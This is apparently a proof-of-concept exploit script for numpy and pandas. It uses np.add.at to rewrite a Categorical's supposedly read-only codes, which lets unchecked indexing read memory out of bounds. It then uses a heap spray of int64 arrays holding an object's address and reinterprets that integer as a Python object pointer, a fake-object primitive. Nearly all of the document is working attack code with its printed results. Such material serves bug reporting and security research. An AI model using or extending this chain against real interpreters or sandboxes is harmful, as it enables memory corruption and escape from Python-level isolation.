# source: numpy 1.24 ufunc.at (np.add.at) writes into arrays whose writeable flag is False (no write check on its first operand); pandas hands out Categorical codes as a read-only view of the codes it keeps (Categorical.codes / Series.cat.codes); pandas/core/arrays/categorical.py __array__ -> take_nd (unchecked Cython take)
# family: read-only flag bypass through ufunc.at -> integer codes pandas keeps and indexes unchecked -> any nearby word read, and an int64 taken as an object
# goal: rewrite a Categorical's "read-only" codes with np.add.at: an int Categorical reads 65534 words around its categories buffer (finding the object categories and a sprayed int64 array holding k's address), then an object Categorical's code is pointed at that int64, and np.asarray() hands back the object k made from a raw integer
import numpy as np
import pandas as pd


class K:
    pass


def addr_of(obj):
    return int(repr(obj).split(" at ")[1].rstrip(">"), 16)


k = K()
ak = addr_of(k)
kobjs = [K() for i in range(200)]
addrs = [addr_of(o) for o in kobjs]
objcat = pd.Categorical([kobjs[0]] * 4, categories=kobjs)
spray = [np.full(200, ak, dtype=np.int64) for i in range(100)]
intcat = pd.Categorical(np.zeros(65534, dtype=np.int64), categories=np.arange(200))
offs = np.concatenate([np.arange(-32767, -1), np.arange(0, 32768)])
codes = pd.Series(intcat).cat.codes
np.add.at(codes, np.arange(len(offs)), offs)
print("int categorical codes now span", int(intcat.codes.min()), "to", int(intcat.codes.max()), flush=True)
vals = np.asarray(intcat)
o1 = None
for i in np.nonzero(vals == addrs[0])[0]:
    if i + 2 < len(vals) and vals[i + 1] == addrs[1] and vals[i + 2] == addrs[2]:
        o1 = int(offs[i])
hits = np.nonzero(vals == ak)[0]
o2 = [int(offs[h]) for h in hits]
print("object categories buffer at word", o1, "; pointers to k at words", o2[:5], flush=True)
mid = o2[len(o2) // 2]
objcode = mid - o1
objcodes = pd.Series(objcat).cat.codes
np.add.at(objcodes, [0], objcode)
print("object categorical: codes", objcat.codes.tolist(), "with", len(objcat.categories), "categories", flush=True)
got = np.asarray(objcat)[0]
print("element 0 is k (an int64 of a numpy array read as a pointer):", got is k, flush=True)
